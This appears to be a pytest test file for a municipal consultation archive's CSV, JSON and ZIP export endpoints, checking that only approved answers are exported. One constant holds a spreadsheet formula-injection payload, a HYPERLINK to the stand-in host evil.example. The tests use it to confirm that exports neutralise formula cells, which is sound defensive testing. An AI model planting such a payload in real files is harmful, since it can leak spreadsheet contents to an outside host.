"""Archive exports contain exactly the approved answers, with their metadata and attachments."""
from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from sqlalchemy import select

from app.consultations.models import QuestionReply
from app.core.audit import AuditEvent
from app.files.services import save_document
from tests.consultations.factories import pdf_bytes, upload


@pytest.fixture
def exported(db, auth, make_municipality, make_user, make_consultation, make_answer):
    municipality = make_municipality("Arkiv")
    admin = make_user(role="admin", municipality=municipality)
    consultation = make_consultation(municipality, questions=["Hva er viktigst?"])
    attachment = save_document(upload(pdf_bytes(), "uttalelse.pdf"), municipality, admin)
    db.session.commit()
    approved = [
        make_answer(consultation, make_user(name="Kari"), text="Godkjent; med semikolon\nog linjeskift"),
        make_answer(consultation, make_user(name="Lag"), text="Fra laget",
                    organisation_name="Holmen vel", organisation_number="974760673",
                    attachment=attachment),
    ]
    for status in ("pending", "rejected", "withdrawn", "hidden"):
        make_answer(consultation, make_user(), status=status, text=f"Ikke med: {status}")
    auth.login(admin)
    return consultation, approved


def test_csv_has_exactly_the_approved_answers(client, db, exported):
    consultation, approved = exported
    response = client.get(f"/arkiv/admin/horinger/{consultation.id}/eksport/csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment; filename=\"horingssvar-")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    text = response.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    assert [int(r["answer_id"]) for r in rows] == [a.id for a in approved]
    assert rows[0]["text"] == "Godkjent; med semikolon\nog linjeskift"
    assert rows[1]["on_behalf_of"] == "Holmen vel" and rows[1]["organisation_number"] == "974760673"
    assert {r["status"] for r in rows} == {"approved"}
    assert rows[0]["received"].endswith(("+01:00", "+02:00"))
    assert "Ikke med" not in text
    event = db.session.scalar(select(AuditEvent).where(
        AuditEvent.action == "consultation.answers_exported"))
    assert event.after == {"format": "csv", "answers": 2}


def test_json_has_metadata_and_exactly_the_approved_answers(client, exported):
    consultation, approved = exported
    data = json.loads(client.get(f"/arkiv/admin/horinger/{consultation.id}/eksport/json").data)
    assert data["consultation"]["id"] == consultation.id
    assert data["consultation"]["municipality"]["name"] == "Arkiv"
    assert data["consultation"]["questions"][0]["text_nb"] == "Hva er viktigst?"
    assert [a["answer_id"] for a in data["answers"]] == [a.id for a in approved]
    assert data["answers"][1]["attachment"] == f"vedlegg/{approved[1].id}-uttalelse.pdf"


def test_zip_has_csv_json_attachments_and_checksums(client, exported):
    consultation, approved = exported
    response = client.get(f"/arkiv/admin/horinger/{consultation.id}/eksport/zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    names = set(archive.namelist())
    assert names == {"answers.csv", "answers.json", "SHA256SUMS",
                     f"vedlegg/{approved[1].id}-uttalelse.pdf"}
    assert archive.read(f"vedlegg/{approved[1].id}-uttalelse.pdf") == pdf_bytes()
    assert "Ikke med" not in archive.read("answers.csv").decode("utf-8-sig")
    assert len(archive.read("SHA256SUMS").decode().splitlines()) == 3


HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Se vedlegg")'


@pytest.fixture
def hostile(db, auth, make_municipality, make_user, make_consultation, make_answer):
    """An approved answer whose sender name, organisation, text and reply, and a question
    whose title, are all a spreadsheet formula."""
    municipality = make_municipality("Arkiv")
    admin = make_user(role="admin", municipality=municipality)
    consultation = make_consultation(municipality, questions=[HOSTILE])
    answer = make_answer(consultation, make_user(name="@Kari"), text=HOSTILE,
                         organisation_name=HOSTILE, organisation_number="974760673")
    db.session.add(QuestionReply(answer_id=answer.id, question_id=consultation.questions[0].id,
                                 text="-1+" + HOSTILE))
    db.session.commit()
    auth.login(admin)
    return consultation


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    header, answer = rows[0], rows[1]
    assert header[-1].startswith("question_") and header[-1].endswith(": " + HOSTILE)
    record = dict(zip(header, answer))
    assert record["text"] == "'" + HOSTILE
    assert record["on_behalf_of"] == "'" + HOSTILE
    assert record["sender_name"] == "'@Kari"
    assert answer[-1] == "'-1+" + HOSTILE
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for value in row)


def test_csv_cells_never_run_as_formulas(client, hostile):
    response = client.get(f"/arkiv/admin/horinger/{hostile.id}/eksport/csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff") and "\r\n" in text
    _assert_no_formula_cells(_csv_rows(text.lstrip("\ufeff")))


def test_zip_csv_cells_never_run_as_formulas(client, hostile):
    response = client.get(f"/arkiv/admin/horinger/{hostile.id}/eksport/zip")
    assert response.headers["Content-Type"] == "application/zip"
    assert response.headers["Cache-Control"] == "no-store"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    _assert_no_formula_cells(_csv_rows(archive.read("answers.csv").decode("utf-8-sig")))
    # The JSON is data, not a spreadsheet: it keeps the text exactly as sent.
    assert json.loads(archive.read("answers.json"))["answers"][0]["text"] == HOSTILE


def test_unknown_format_is_a_404(client, exported):
    consultation, _ = exported
    assert client.get(f"/arkiv/admin/horinger/{consultation.id}/eksport/xlsx").status_code == 404
